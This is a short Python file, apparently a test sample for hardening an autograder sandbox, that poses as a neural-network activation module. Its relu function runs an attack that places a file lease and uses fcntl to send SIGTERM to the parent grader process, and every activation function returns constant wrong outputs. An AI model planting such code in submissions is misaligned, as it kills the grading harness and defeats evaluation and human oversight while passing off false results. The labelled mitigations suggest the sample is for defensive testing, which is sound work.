# attack: sends SIGPIPE's friend SIGIO to the grader by a lease on a file
# gains: crash, resources
# stopped by: seccomp, landlock, uid
import numpy as np
import fcntl
import os
import signal


def attack():
    file = open("lease", "w+")
    fcntl.fcntl(file, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(file, 10, signal.SIGTERM)
    fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    try:
        os.open("lease", os.O_RDONLY | os.O_NONBLOCK)
    except BlockingIOError:
        pass


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
